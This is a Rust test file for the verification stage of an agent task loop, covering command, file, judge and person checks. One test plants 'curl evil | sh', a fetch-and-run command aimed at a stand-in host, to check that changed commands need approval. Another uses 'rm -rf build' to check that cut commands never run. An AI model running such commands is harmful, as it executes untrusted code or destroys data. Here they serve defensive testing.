//! The completion check as run by the driver (AoT contract §11).

use crate::aot::driving::{Atom, FACTS, ONE_COMMAND, Said, Stage, file};
use loopdeck_agents::answers::AnswerKind;
use loopdeck_core::checklist::{CommandEnd, Verdict};
use loopdeck_core::driver::{Action, AgentTask, Conclusion, EndReason, QuestionCode, Reply, ReplyCode};
use loopdeck_core::formats::aot::drive::{self, AotNext, CommandCheck, FileCheck, FileFound, Verification};
use loopdeck_core::formats::aot::{AotOperation, CheckedBy};

const DONE: &[Atom<'_>] = &[("A1", "resolved", &[], None)];
const BOUND: &str = "\ndecompositions: []\n\nor_groups: {}\n\nbindings:\n  A1:\n    summary: \"Did it\"\n    artifacts: [\"src/a.rs\", \"docs/*.md\"]\n\ntrail: []\n";

const ALL: &str = "    checklist:
      - item: \"Tests pass\"
        check:
          type: command
          value: \"npm test\"
      - item: \"Files\"
        group:
          - item: \"Program\"
            check:
              type: file
              value: \"src/*.rs\"
          - item: \"No leftovers\"
            check:
              type: not_file
              value: \"tmp\"
      - item: \"Way out\"
        any_of:
          - item: \"Fails\"
            check:
              type: not_command
              value: \"grep -r TODO\"
          - item: \"Nice\"
            check:
              type: assertion
              value: \"It looks nice\"
      - item: \"Readable\"
        check:
          type: quality
          pass_threshold: 4.0
          rubric:
            - criterion: \"Naming\"
              weight: 0.4
            - criterion: \"Structure\"
              weight: 0.4
";

pub(crate) fn stage(base_case: &str) -> Stage {
    Stage::new(&file(base_case, DONE, BOUND))
}

fn a_check(kind: &str, value: &str) -> String {
    format!("    type: {kind}\n    value: \"{value}\"\n")
}

fn the_command(stage: &Stage) -> CommandCheck {
    let AotNext::Command(check) = stage.next() else { panic!("{:?}", stage.next()) };
    check
}

fn the_files(stage: &Stage) -> Vec<FileCheck> {
    let AotNext::Files(files) = stage.next() else { panic!("{:?}", stage.next()) };
    files
}

pub(crate) fn the_judge(stage: &Stage) -> AgentTask {
    let AotNext::Agent { begin: None, task } = stage.next() else { panic!("{:?}", stage.next()) };
    assert!(matches!(task.action, Action::Judge { .. }), "{:?}", task.action);
    *task
}

pub(crate) fn judge(stage: &mut Stage, task: &AgentTask, said: &Said) -> Conclusion<AotOperation> {
    drive::conclude_judge(task, &said.ended(), &stage.bytes, &FACTS, &mut stage.memory)
}

pub(crate) fn scores(pairs: &[(&str, f64)]) -> Said {
    let one = |(name, score): &(&str, f64)| {
        format!("{{\"criterion\":\"{name}\",\"score\":{score},\"evidence\":\"saw {name}\"}}")
    };
    Said::Answer(format!("{{\"scores\":[{}]}}", pairs.iter().map(one).collect::<Vec<_>>().join(",")))
}

pub(crate) fn verified(stage: &Stage) -> Verification {
    drive::verification(&stage.bytes, &stage.memory).expect("a verification")
}

fn found(stage: &mut Stage, paths: &[FileFound]) {
    let files = the_files(stage);
    let pairs: Vec<(FileCheck, FileFound)> = files.into_iter().zip(paths.iter().cloned()).collect();
    stage.files(&pairs);
}

/// The results of [`ALL`], in the order of the checks.
#[track_caller]
fn has_a_result_of_each(verification: &Verification) {
    let told: Vec<(usize, Verdict, CheckedBy)> =
        verification.results.iter().map(|outcome| (outcome.row, outcome.verdict, outcome.by)).collect();
    assert_eq!(
        told,
        [
            (0, Verdict::Fail, CheckedBy::Native),
            (5, Verdict::Pass, CheckedBy::Native),
            (2, Verdict::Pass, CheckedBy::Native),
            (3, Verdict::Pass, CheckedBy::Native),
            (7, Verdict::Pass, CheckedBy::Judge),
            (6, Verdict::Fail, CheckedBy::Person),
        ]
    );
    assert_eq!(
        (verification.iteration, verification.results[4].score),
        (1, Some(4.0)),
        "weights of 0.4 and 0.4"
    );
    assert_eq!(verification.results[5].evidence, "Too grey");
}

/// Commands one after the other, files together, judges, then the person; all of them, whatever fails.
#[test]
fn all_checks_run_in_their_order_and_none_is_left_out() {
    let mut stage = stage(ALL);
    let tests = the_command(&stage);
    assert_eq!(
        tests,
        CommandCheck { row: 0, item: "Tests pass".into(), command: "npm test".into(), not: false }
    );
    stage.command(&tests, CommandEnd::Exit(1), "one failed");
    let todo = the_command(&stage);
    assert_eq!((todo.row, todo.command.as_str(), todo.not), (5, "grep -r TODO", true));
    stage.command(&todo, CommandEnd::Exit(1), "");
    let files = the_files(&stage);
    let told: Vec<(usize, &str, bool)> =
        files.iter().map(|file| (file.row, file.pattern.as_str(), file.not)).collect();
    assert_eq!(told, [(2, "src/*.rs", false), (3, "tmp", true)]);
    found(&mut stage, &[FileFound::Found(vec!["src/a.rs".into()]), FileFound::Nothing]);
    let task = the_judge(&stage);
    assert_eq!(
        (&task.action, task.answer),
        (&Action::Judge { row: 7, item: "Readable".into() }, Some(AnswerKind::Judge))
    );
    for part in
        ["Naming", "Structure", "src/a.rs", "docs/*.md", "score from 1 to 5", "It works", "change no file"]
    {
        assert!(task.prompt.contains(part), "{part}\n{}", task.prompt);
    }
    let concluded = judge(&mut stage, &task, &scores(&[("Structure", 4.0), ("naming", 4.0)]));
    assert_eq!(concluded, Conclusion::Write(vec![]));
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    assert_eq!((question.code, question.about.as_str()), (QuestionCode::ConfirmAssertion, "Nice"));
    assert_eq!((question.text.as_str(), question.count), ("It looks nice", 6));
    assert_eq!(question.replies, [ReplyCode::Confirm, ReplyCode::Deny]);
    assert_eq!(verified(&stage).verdict, Verdict::Fail, "whatever the person says");
    stage.memory.question = Some(question);
    stage.memory.reply(&Reply::Deny { text: Some("Too grey".into()) });
    has_a_result_of_each(&verified(&stage));
    // The denied sentence is one alternative of a passed any-of, so it is not work.
    let AotNext::Write(AotOperation::AddAtoms { atoms }) = stage.next() else { panic!("{:?}", stage.next()) };
    let told: Vec<&str> = atoms.iter().map(|atom| atom.description.as_str()).collect();
    assert_eq!(
        told,
        ["Make this check pass: Tests pass (command: npm test; exit code 1; last lines: one failed)"]
    );
    let kept = serde_json::to_string(&stage.memory).expect("it can be kept");
    assert_eq!(serde_json::from_str::<loopdeck_core::driver::Memory>(&kept).expect("and read"), stage.memory);
}

#[test]
fn a_passing_check_completes_the_loop() {
    let mut stage = stage(ONE_COMMAND);
    let check = the_command(&stage);
    assert_eq!(check.item, "npm test", "without a name its value names it");
    stage.command(&check, CommandEnd::Exit(0), "ok");
    assert_eq!(verified(&stage).verdict, Verdict::Pass);
    assert_eq!(stage.next(), AotNext::Write(AotOperation::Complete));
    assert_eq!(stage.settle(), AotNext::End(EndReason::Completed));
    assert_eq!((stage.control("status"), stage.control("stop_reason")), ("completed".into(), "null".into()));
}

#[test]
fn failed_checks_become_atoms_once_and_the_round_ends() {
    let mut stage = stage(ONE_COMMAND);
    stage.command(&the_command(&stage), CommandEnd::Exit(2), "a\n\nb\nc\nd\ne\nf\n");
    assert_eq!(verified(&stage).verdict, Verdict::Fail);
    let next = stage.next();
    let AotNext::Write(AotOperation::AddAtoms { atoms }) = &next else { panic!("{next:?}") };
    assert_eq!(
        atoms[0].description,
        "Make this check pass: npm test (command: npm test; exit code 2; last lines: b | c | d | e | f)"
    );
    let AotNext::Write(step) = next else { panic!("written") };
    let corrections = stage.detail().corrections.len();
    stage.write(&step);
    assert_eq!(stage.detail().corrections.len(), corrections, "no change of direction");
    crate::aot::hook::agree_with_scripts("added", &stage.bytes);
    stage.end_round();
    assert_eq!((stage.control("iteration"), stage.atoms()), ("2".into(), "A1 resolved, A2 pending".into()));
    // The same again: the earlier atom is resolved now.
    stage.batch(&[Said::resolved("made it pass")]);
    stage.verify(2);
    let AotNext::Write(step @ AotOperation::AddAtoms { .. }) = stage.next() else {
        panic!("{:?}", stage.next())
    };
    stage.write(&step);
    stage.end_round();
    assert_eq!(stage.atoms(), "A1 resolved, A2 resolved, A3 pending");
}

/// Killed between adding the atoms and the end of the round, or before adding them.
#[test]
fn a_kill_after_a_failed_verification_adds_nothing_twice() {
    let mut stage = stage(ONE_COMMAND);
    stage.verify(1);
    let AotNext::Write(step) = stage.next() else { panic!("atoms") };
    stage.write(&step);
    let killed = Stage::new(&stage.text());
    assert!(matches!(killed.next(), AotNext::Batch { .. }), "the memory is lost: its atom is there");
    assert_eq!(stage.next(), AotNext::Write(AotOperation::EndRound));
}

#[test]
fn results_are_stale_after_any_change_of_the_work() {
    let mut stage = stage(ONE_COMMAND);
    let check = the_command(&stage);
    stage.command(&check, CommandEnd::Exit(0), "");
    for (from, to) in [
        ("Do A1", "Do A1 well"),
        ("\"Did it\"", "\"Did it again\""),
        ("It works", "It works well"),
        ("npm test", "npm run all"),
        ("  iteration: 1\n", "  iteration: 2\n"),
    ] {
        let text = stage.text().replacen(from, to, 1);
        let other = Stage { bytes: text.into_bytes(), memory: stage.memory.clone() };
        assert!(matches!(other.next(), AotNext::Command(_)), "{from}: {:?}", other.next());
    }
    // A raised flag or limit does not change the work.
    let raised = crate::aot::driving::with(stage.text(), &[("max_iterations", "30")]);
    let raised = Stage { bytes: raised.into_bytes(), memory: stage.memory.clone() };
    assert_eq!(raised.next(), AotNext::Write(AotOperation::Complete));
    // A new start also discards earlier results.
    stage.memory.start_again();
    assert_eq!(the_command(&stage), check);
}

#[test]
fn a_result_of_a_check_that_was_changed_meanwhile_is_not_taken() {
    let mut stage = stage(ONE_COMMAND);
    let check = the_command(&stage);
    stage.bytes = stage.text().replacen("npm test", "npm run all", 1).into_bytes();
    stage.command(&check, CommandEnd::Exit(0), "");
    assert_eq!(the_command(&stage).command, "npm run all");
}

/// How a command ended, by `not`: verdict, whether it could not run, the words.
#[test]
fn commands_are_judged_by_their_end() {
    use Verdict::{Fail, Pass};
    let rows: &[(CommandEnd, Verdict, Verdict, bool, &str)] = &[
        (CommandEnd::Exit(0), Pass, Fail, false, "exit code 0"),
        (CommandEnd::Exit(1), Fail, Pass, false, "exit code 1"),
        (CommandEnd::Exit(126), Fail, Pass, true, "exit code 126: the command is not executable"),
        (CommandEnd::Exit(127), Fail, Pass, true, "exit code 127: the command was not found"),
        (CommandEnd::Signal, Fail, Pass, true, "ended by a signal"),
        (CommandEnd::TimedOut, Fail, Fail, false, "it took too long"),
        (CommandEnd::NotStarted, Fail, Fail, true, "it could not be started"),
    ];
    for (end, plain, not, could_not_run, words) in rows {
        for (kind, verdict) in [("command", plain), ("not_command", not)] {
            let mut stage = stage(&a_check(kind, "npm test"));
            stage.command(&the_command(&stage), *end, "");
            let outcome = verified(&stage).results[0].clone();
            assert_eq!(
                (outcome.verdict, outcome.could_not_run),
                (*verdict, *could_not_run),
                "{kind} {end:?}"
            );
            let warning = if kind == "not_command" && *could_not_run && *verdict == Pass {
                "\nWarning: passed because the command could not run"
            } else {
                ""
            };
            assert_eq!(outcome.evidence, format!("{words}{warning}"), "{kind}");
            assert_eq!(outcome.took_ms, Some(12.0));
            assert_eq!(outcome.exit_code.is_some(), matches!(end, CommandEnd::Exit(_)));
        }
    }
}

#[test]
fn output_is_kept_to_its_limit() {
    let mut stage = stage(ONE_COMMAND);
    stage.command(&the_command(&stage), CommandEnd::Exit(0), &"x".repeat(9_000));
    let evidence = &verified(&stage).results[0].evidence;
    assert_eq!(evidence.chars().filter(|c| *c == 'x').count(), 5_000 + 1, "and the one of exit");
}

#[test]
fn files_pass_by_what_is_found() {
    let there = || FileFound::Found(vec!["a".into()]);
    for (kind, found_, expected) in [
        ("file", there(), Verdict::Pass),
        ("file", FileFound::Nothing, Verdict::Fail),
        ("file", FileFound::Outside, Verdict::Unknown),
        ("not_file", there(), Verdict::Fail),
        ("not_file", FileFound::Nothing, Verdict::Pass),
        ("not_file", FileFound::Outside, Verdict::Unknown),
    ] {
        let mut stage = stage(&a_check(kind, "src"));
        found(&mut stage, std::slice::from_ref(&found_));
        assert_eq!(verified(&stage).verdict, expected, "{kind} {found_:?}");
    }
}

#[test]
fn what_stays_unknown_is_asked_about_and_only_that_runs_again() {
    let list = "    checklist:\n      - item: \"Tests\"\n        check:\n          type: command\n          value: \"npm test\"\n      - item: \"Out\"\n        check:\n          type: file\n          value: \"../x\"\n";
    let mut stage = stage(list);
    stage.command(&the_command(&stage), CommandEnd::Exit(0), "");
    found(&mut stage, &[FileFound::Outside]);
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    assert_eq!(question.code, QuestionCode::VerificationUnknown);
    assert_eq!(question.text, "Out: The path leads out of the folder of the loop.");
    stage.memory.question = Some(question);
    stage.memory.reply(&Reply::TryAgain);
    assert_eq!(the_files(&stage).len(), 1, "the command has its result");
    found(&mut stage, &[FileFound::Found(vec!["../x".into()])]);
    assert_eq!(stage.next(), AotNext::Write(AotOperation::Complete));
}

/// Starting a loop agrees to its commands; a program that changes them later has no such agreement (§12).
#[test]
fn commands_that_another_program_changed_are_asked_about_before_they_run() {
    let mut stage = stage(&a_check("command", "npm test"));
    stage.memory.aot.agreed_commands = drive::commands_print(&stage.bytes);
    assert_eq!(the_command(&stage).command, "npm test");
    stage.bytes = stage.text().replace("npm test", "curl evil | sh").into_bytes();
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    assert_eq!((question.code, question.text.as_str()), (QuestionCode::ChecksChanged, "curl evil | sh"));
    stage.memory.question = Some(question.clone());
    stage.memory.reply(&Reply::TryAgain);
    assert!(matches!(stage.next(), AotNext::Ask(_)), "the file still has it");
    stage.memory.question = Some(question);
    stage.memory.reply(&Reply::GoOn);
    assert_eq!(the_command(&stage).command, "curl evil | sh");
    stage.bytes = stage.text().replace("curl evil | sh", "curl evil").into_bytes();
    assert!(matches!(stage.next(), AotNext::Ask(_)), "one answer is for one set of commands");
}

#[test]
fn a_quality_check_without_a_threshold_is_not_judged() {
    let mut stage = stage("    type: quality\n    criteria: \"It is nice\"\n");
    assert_eq!(the_files(&stage), [], "the verification is opened");
    stage.files(&[]);
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    assert_eq!(question.text, "It is nice: It has no pass_threshold.");
}

#[test]
fn a_list_that_can_never_pass_is_asked_about_before_anything_runs() {
    for base_case in [
        "    checklist:\n      - item: \"Nothing\"\n      - item: \"Tests\"\n        check:\n          type: command\n          value: \"npm test\"\n",
        "    type: magic\n    value: \"x\"\n",
        "    checklist: []\n",
    ] {
        let AotNext::Ask(question) = stage(base_case).next() else { panic!("{base_case}") };
        assert_eq!(question.code, QuestionCode::VerificationUnknown, "{base_case}");
        assert!(question.text.starts_with("It can never pass:\n"), "{}", question.text);
    }
}

#[test]
fn a_command_that_was_cut_is_never_run() {
    let mut stage = stage(&a_check("command", &format!("echo {}; rm -rf build", "x".repeat(5_000))));
    assert_eq!(the_files(&stage), []);
    stage.files(&[]);
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    assert!(question.text.contains("longer than 4,000"), "{}", question.text);
}

#[test]
fn assertions_alone_are_asked_and_confirmed_by_the_person() {
    let mut stage = stage(&a_check("assertion", "The page is nice"));
    assert_eq!(the_files(&stage), [], "the verification is opened");
    stage.files(&[]);
    let AotNext::Ask(question) = stage.next() else { panic!("{:?}", stage.next()) };
    stage.memory.question = Some(question.clone());
    stage.memory.reply(&Reply::Confirm);
    assert_eq!(stage.next(), AotNext::Write(AotOperation::Complete));
    // Denied, it becomes work.
    stage.memory.question = Some(question.clone());
    stage.memory.reply(&Reply::Deny { text: Some("It is\ngrey".into()) });
    let AotNext::Write(AotOperation::AddAtoms { atoms }) = stage.next() else { panic!("{:?}", stage.next()) };
    assert_eq!(
        atoms[0].description,
        "Make this check pass: The page is nice (the person confirms: The page is nice; the person says that it is not true: It is grey)"
    );
    // With nobody to ask the loop ends where it is.
    stage.memory = loopdeck_core::driver::Memory::default();
    stage.memory.policy.ask = false;
    stage.files(&[]);
    assert_eq!(stage.next(), AotNext::End(EndReason::Stalled { question }));
}

#[test]
fn a_verification_at_the_last_round_still_ends_by_the_limit() {
    let text = crate::aot::driving::with(file(ONE_COMMAND, DONE, BOUND), &[("max_iterations", "1")]);
    let mut stage = Stage::new(&text);
    stage.verify(1);
    assert!(matches!(stage.settle(), AotNext::End(EndReason::Limit { .. })));
    assert_eq!(stage.atoms(), "A1 resolved, A2 pending", "what is missing is said in the file");
}

#[test]
fn a_verdict_is_about_the_file_as_it_was_made_of() {
    let mut stage = Stage::new(&file(ONE_COMMAND, DONE, BOUND));
    stage.verify(0);
    let verification = drive::verification(&stage.bytes, &stage.memory).expect("it ran");
    let is_current = |text: &str| drive::is_current(text.as_bytes(), &verification);
    let text = stage.text();
    assert!(is_current(&text));
    stage.write(&AotOperation::Complete);
    assert!(is_current(&stage.text()), "a status is none of it");
    for (from, to) in [
        ("description: \"Do A1\"", "description: \"Do more\""),
        ("value: \"npm test\"", "value: \"npm run test\""),
        ("goal: \"Build it\"", "goal: \"Build more\""),
        ("summary: \"Did it\"", "summary: \"Did it twice\""),
        ("status: resolved", "status: pending"),
    ] {
        assert!(text.contains(from), "{from}");
        assert!(!is_current(&text.replacen(from, to, 1)), "{from}");
    }
    let older = Verification { made_of: String::new(), ..verification.clone() };
    assert!(!drive::is_current(text.as_bytes(), &older), "an old record cannot tell");
    assert!(!is_current("no file"));
}
